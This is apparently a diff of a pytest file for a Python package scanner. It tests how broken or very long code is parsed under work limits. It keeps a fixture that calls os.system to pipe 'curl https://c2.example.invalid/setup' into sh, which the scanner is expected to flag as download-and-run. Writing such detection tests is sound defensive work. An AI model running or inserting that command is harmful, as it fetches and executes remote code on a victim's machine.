@@ -1,13 +1,14 @@
 """Python that this Python cannot read: older, newer, or broken in places. What can be read of it is looked at, line for line."""
 
 import ast
+import json
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from pratique.ecosystems.archive import Member
-from pratique.errors import InvalidInput
+from pratique.errors import InvalidInput, LimitExceeded
 from pratique.facts.scan.engine import Look, look
 from pratique.facts.scan.languages.python.broken import mended
 from pratique.facts.scan.languages.python.older import rewritten, statements
@@ -113,6 +114,61 @@ def test_much_that_is_broken_is_read_part_by_part() -> None:
 def test_what_is_too_long_or_nothing_is_not_mended() -> None:
     assert mended("a = = 1\n" * (limits.SCAN_MENDED_CHARACTERS_MAX // 8 + 1)) is None
     assert mended("(" * 3_000) is None
+
+
+LONG = 200_000
+HOSTILE = {
+    "blanks behind a colon": ("a b:" + " " * LONG + "c\nd()\n", "pass\nd()", (1,)),
+    "signs of comments in front of a quote": ("a b" + " #" * LONG + "'\nd()\n", "pass\nd()", (1,)),
+    "comments where a body is missing": ("d()\nif a:\n" + "#b:\n" * 50_000, "d()\nif a:\n    pass", ()),
+    "blanks behind a try": ("try:" + " " * LONG + "d()\na = = 1\n", "if 1:\n    d()\npass", (2,)),
+    "statements of Python 2 in one line": ("exec 'a';" * 20_000 + "d()\n", "exec('a')\n" * 20_000 + "d()", ()),
+}
+
+
+@pytest.mark.parametrize("way", HOSTILE)
+def test_what_is_long_and_broken_is_mended_like_what_is_short(way: str) -> None:
+    text, kept, lost = HOSTILE[way]
+    found = mended(text)
+    assert found is not None
+    assert ast.unparse(found.tree) == kept
+    assert found.lost == lost
+
+
+@pytest.mark.parametrize(
+    ("text", "mends"),
+    [("\n" * 1_000 + " a()\nb()\n", 2), ("\n" * 1_000 + "a = = 1\nb()\n", 1)],
+    ids=["lines with nothing in them", "lines that are gone over"],
+)
+def test_lines_are_work_whatever_is_in_them(text: str, mends: int, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(limits, "SCAN_MENDED_WORK_CHARACTERS_MAX", len(text) * mends)
+    whole = mended(text)
+    monkeypatch.setattr(limits, "SCAN_MENDED_WORK_CHARACTERS_MAX", 900)
+    parts = mended(text)
+    assert whole is not None
+    assert parts is not None
+    assert ast.unparse(whole.tree) != ast.unparse(parts.tree)
+
+
+def test_what_takes_the_parser_too_much_work_is_told_of() -> None:
+    for text in ("<!--" * 3_000, "(\n" * 100_000):
+        with pytest.raises(LimitExceeded, match=r"too m(?:uch|any)"):
+            mended(text)
+        with pytest.raises(LimitExceeded, match=r"too m(?:uch|any)"):
+            statements(text)
+    assert rewritten("print 'a'\n") == "print( 'a')\n"
+    scan = looked(b"<!--" * 3_000, "demo-1.0/setup.py", "demo-1.0.tar.gz").report()
+    assert scan.coverage.unread_count == 1
+
+
+def test_a_cell_of_a_notebook_that_takes_too_much_work_is_unread_and_the_others_are_read() -> None:
+    cells = [{"cell_type": "code", "source": source, "metadata": {}, "outputs": []} for source in ("<!--" * 3_000, GET)]
+    data = json.dumps({"cells": cells, "nbformat": 4}).encode()
+    scan = looked(data, "demo-1.0/a.ipynb", "demo-1.0.tar.gz").report()
+    assert [each.why for each in scan.coverage.unread] == [
+        "a cell is not readable as Python here: it takes too much work to parse"
+    ]
+    assert "download-and-run" in {finding.rule for finding in scan.findings}
 
 
 GET = "import os\nos.system('curl https://c2.example.invalid/setup | sh')\n"
